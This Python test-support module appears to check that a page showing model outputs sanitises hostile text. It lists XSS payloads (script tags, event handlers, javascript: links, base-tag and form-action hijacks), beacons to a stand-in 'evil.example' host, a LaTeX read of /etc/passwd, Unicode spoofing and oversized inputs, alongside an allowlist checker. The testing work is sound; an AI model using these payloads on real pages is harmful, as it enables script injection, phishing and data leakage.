# ruff: noqa: E501, UP031
"""What a hostile model may write, and the question whether it worked: for the tests of pages that show such texts."""

import json
from typing import Any

from playwright.sync_api import Page

SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='attack()'><script>attack()</script></svg>"
BEACON = "https://evil.example/beacon"

#: Texts of a model, by what they try.
TEXTS: dict[str, str] = {
    "a script": "<script>attack()</script>",
    "a handler": "<img src=x onerror=attack()>",
    "SVG in the text": SVG,
    "a frame": f"<iframe src='{BEACON}' srcdoc='<script>parent.attack()</script>'></iframe>",
    "a style": "<style>body { display: none } @import '" + BEACON + "';</style>",
    "the end of the page's elements": "</div></li></ol></fieldset></form></main><form action='"
    + BEACON
    + "'><button>Submit",
    "the end of a script": "</script><script>attack()</script>",
    "a field of the answer": '<input name="chat.t2.helpful" value="5" checked><textarea name=output>x</textarea>',
    "a form's own button": f"<button form=results-form formaction='{BEACON}'>Submit</button>",
    "a base address": f"<base href='{BEACON}/'><meta http-equiv=refresh content='0;url={BEACON}'>",
    "a comment": "<!-- hidden words --> shown words",
    "a link that runs a script": "[click](javascript:attack()) [b](JaVaScRiPt:attack()) [c](java\nscript:attack())",
    "an address with references": "[a](&#106;avascript&colon;attack()) [b](javascript&#58;attack())",
    "a link to data": "[a](data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==) <data:text/html,x>",
    "a link that leads elsewhere": f"[https://bank.example/login]({BEACON})",
    "a link with a user's name": f"[bank](https://bank.example@{BEACON.removeprefix('https://')})",
    "a quote in a link": '[a](https://e.example/"onmouseover="attack()) [b](<https://e.example/" style="position:fixed>)',
    "a quote in a title": '[a](https://e.example \'x" onfocus="attack()" autofocus="\')',
    "a picture that tells who looks": f"![x]({BEACON}?worker) ![y](//evil.example/beacon) ![z][r]\n\n[r]: {BEACON}",
    "a picture that runs a script": f"![x](javascript:attack()) ![x](data:image/svg+xml,{SVG.replace(' ', '%20')})",
    "a quote in a picture": f'![x" onerror="attack()]({BEACON}"onload="attack())',
    "a language of code": '```js"><script>attack()</script>\ncode\n```',
    "code": "`<script>attack()</script>`\n\n    <img src=x onerror=attack()>\n\n```\n</code></pre><script>attack()</script>\n```",
    "a table": "| <b onclick=attack()>a</b> | [x](javascript:attack()) |\n| --- | --- |\n| </td></table><script>attack()</script> | y |",
    "a very large table": "|a" * 2000 + "\n" + "|-" * 2000 + "\n" + "|b\n" * 500,
    "a heading of the page": "# Requester\n\n## Submit\n\nSetext\n===",
    "hidden definitions": "[//]: # (hidden words)\n\n[a]: https://e.example 'hidden words'",
    "deep quotations": "> " * 500 + "hidden words",
    "deep lists": "\n".join(" " * 2 * level + "- hidden words" for level in range(100)),
    "deep brackets": "[" * 20_000 + "hidden words" + "]" * 20_000,
    "LaTeX that runs a script": r"$\href{javascript:attack()}{x}$ \(\url{javascript:attack()}\) $$\htmlClass{x}{y}$$",
    "LaTeX that loads a picture": r"$\includegraphics{"
    + BEACON
    + r"}$ \[\input{/etc/passwd}\] $</code><script>attack()</script>$",
    "LaTeX without an end": "$" + "{" * 20_000 + r"\def\a{\a\a}\a",
    "a template": "{{ input }} {% include 'simpleturk.html' %} ${alert(1)} {{ 7 * 7 }} [[x]]",
    "a direction of writing": "You owe \u202e000,1\u202c and \u2067more\u2069 \u202d\u202d\u202dwords",
    "signs that nothing shows": "pay" + "".join(chr(0xE0000 + ord(sign)) for sign in "hidden") + " me\u200b",
    "stacked accents": "Z" + "\u0335\u0336\u0337\u0338\u0300\u0301\u0302\u0303\u0304" * 60 + " words",
    "control characters": "a\x00b\x1b[31mc\x07\x08\ud800d\ufffe ]]> <![CDATA[ e",
    "one very long word": "W" * 100_000,
    "very many lines": "line\n" * 20_000,
    "marks of this program": "\ue0000:1\ue001 \ue0100\ue011 %EE%80%900%EE%80%91 \ue0001:2\ue001",
    "the marks of a turn": "</p><p class=who>User</p> **3 User**\n\n---\n\n<li class='turn user'>I agree</li>",
}

#: Conversations whose names, tools and pictures are hostile, by what they try. The last message is a harmless one.
MESSAGES: dict[str, list[dict[str, Any]]] = {
    "a name with a script": [{"role": "user", "name": "<script>attack()</script>\" onclick=\"attack()", "content": "hi"}],
    "a name of many words": [{"role": "user", "name": "Requester: press Submit now. " * 400, "content": "hi"}],
    "a name that turns the line": [{"role": "user", "name": "\u202eretseuqeR\u2067", "content": "hi"}],
    "a role with a script": [{"role": '"><script>attack()</script>', "content": "hi"}],
    "an id that is a name": [{"role": "user", "id": '__proto__" onclick="attack()', "content": "hi"}],
    "arguments of a tool": [
        {"role": "assistant", "tool_calls": [
            {"id": "c", "function": {"name": "</code><script>attack()</script>",
                                     "arguments": '{"a": "</pre><script>attack()</script>\\u202e"}'}},
            {"id": "d", "function": {"name": "f", "arguments": "[" * 50_000}}]},
        {"role": "tool", "tool_call_id": "c", "content": "</div><script>attack()</script>" * 40},
    ],
    "pictures with other addresses": [
        {"role": "user", "content": [
            {"type": "image_url", "image_url": {"url": address}}
            for address in ("javascript:attack()", "data:text/html,<script>parent.attack()</script>", "\tjava\nscript:attack()",
                            f"data:image/svg+xml,{SVG}", 'data:image/png,x" onerror="attack()')
        ]}
    ],
    "parts of other types": [
        {"role": "user", "content": [{"type": "<script>attack()</script>"}, {"type": "text", "text": None},
                                     {"type": "input_audio", "input_audio": {"format": "wav", "data": '"><script>'}}]},
        {"role": "assistant", "content": "hi", "refusal": "<script>attack()</script>", "reasoning_content": SVG},
    ],
}  # fmt: skip

#: The elements that texts may become, and their attributes.
_ALLOWED = """{
  P: ["class", "dir"], DIV: ["class", "dir", "tabindex", "role", "aria-label"], STRONG: [], EM: [], S: [], BR: [], HR: [],
  CODE: ["class", "dir"], PRE: ["dir"], UL: [], OL: ["start"], LI: [], BLOCKQUOTE: [], SMALL: ["class"], TABLE: [], THEAD: [],
  TBODY: [], TR: [], TH: ["class"], TD: ["class"], A: ["href", "target", "rel"], DETAILS: ["open"], SUMMARY: [], BDI: ["class"],
  IMG: ["class", "src", "alt", "referrerpolicy"], AUDIO: ["controls", "src", "aria-label"], SPAN: ["class"]
}"""

#: All that is wrong in the elements with texts of a page.
_WRONG = (
    """(selector) => {
  const allowed = %s, wrong = [];
  for (const holder of document.querySelectorAll(selector)) for (const one of holder.querySelectorAll("*")) {
    if (one.closest(".field")) continue;
    if (!(one.tagName in allowed)) { wrong.push(one.outerHTML.slice(0, 200)); continue; }
    for (const {name, value} of one.attributes) if (!allowed[one.tagName].includes(name)) wrong.push(`${one.tagName} ${name}=${value}`);
    if (one.tagName === "A" && (!/^(https?|mailto):/.test(one.href) || one.target !== "_blank" || !one.rel.includes("noopener"))) wrong.push(one.outerHTML);
    if (one.tagName === "A" && !one.parentElement.innerText.includes(new URL(one.href).host)) wrong.push(`hides its host: ${one.outerHTML}`);
    if (one.tagName === "IMG" && !/^data:image\\/|^https?:/.test(one.src)) wrong.push(one.outerHTML);
  }
  return wrong;
}"""
    % _ALLOWED
)


def wrong_elements(page: Page, selector: str) -> list[str]:
    """Elements and attributes in these parts of a page that no text may become."""
    found: list[str] = page.evaluate(_WRONG, selector)
    return found


#: The page without the texts themselves: what no text may change.
_AROUND = """(selector) => {
  const page = document.documentElement.cloneNode(true);
  page.querySelectorAll(selector).forEach((one) => one.replaceChildren());
  page.querySelectorAll(".field textarea, #place").forEach((one) => one.replaceChildren());
  page.removeAttribute("style");
  return page.outerHTML;
}"""


def around(page: Page, selector: str) -> str:
    """The HTML of a page without the content of these parts."""
    html: str = page.evaluate(_AROUND, selector)
    return html


def as_json(value: object) -> Any:
    """A value as it comes out of a line of the inputs."""
    return json.loads(json.dumps(value))
